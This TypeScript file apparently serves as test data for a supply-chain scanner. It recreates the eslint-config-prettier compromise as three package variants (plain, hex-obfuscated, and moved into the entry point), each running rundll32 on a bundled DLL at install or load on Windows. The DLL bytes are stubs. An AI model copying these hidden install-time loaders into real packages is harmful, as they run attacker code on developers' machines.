import { type Campaign, entry, hex, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'eslint-config-prettier',
  row: 'eslint-config-prettier 7/2025',
  variants: [
    {
      concealment: 'plain',
      files: scripted(
        { install: 'node install.js' },
        {
          'install.js': `const path = require('path'), os = require('os'), { spawn } = require('child_process');
function logDiskSpace() {
  if (os.platform() === 'win32') {
    const tempDir = os.tmpdir();
    require('chi' + 'ld_pro' + 'cess')['sp' + 'awn']('rund' + 'll32', [path.join(__dirname, './node-gyp' + '.dll') + ',main']);
    console.log('Temp directory:', tempDir);
  }
}
logDiskSpace();
`,
          'node-gyp.dll': Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]),
        },
      ),
    },
    {
      concealment: 'obfuscated',
      files: scripted(
        { install: 'node install.js' },
        {
          'install.js': `const a = (x) => Buffer.from(x, 'hex').toString();
const c = require(a('${hex('child_process')}'));
if (process[a('${hex('platform')}')] === a('${hex('win32')}')) c[a('${hex('spawn')}')](a('${hex('rundll32.exe')}'), [__dirname + a('${hex('/node-gyp.dll,main')}')], { detached: true });
`,
          'node-gyp.dll': Uint8Array.from([0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0]),
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(
        `if (process.platform === 'win32') require('./lib/native').load();\nmodule.exports = { rules: {} };\n`,
        {
          'lib/native.js': `const { execFile } = require('child_process');
exports.load = () => execFile('rundll32', [require('path').resolve(__dirname, 'addon.dat') + ',#1'], { windowsHide: true });
`,
          'lib/addon.dat': (() => {
            const b = new Uint8Array(4096);
            b.set([0x4d, 0x5a, 0x90, 0]);
            return b;
          })(),
        },
      ),
    },
  ],
};
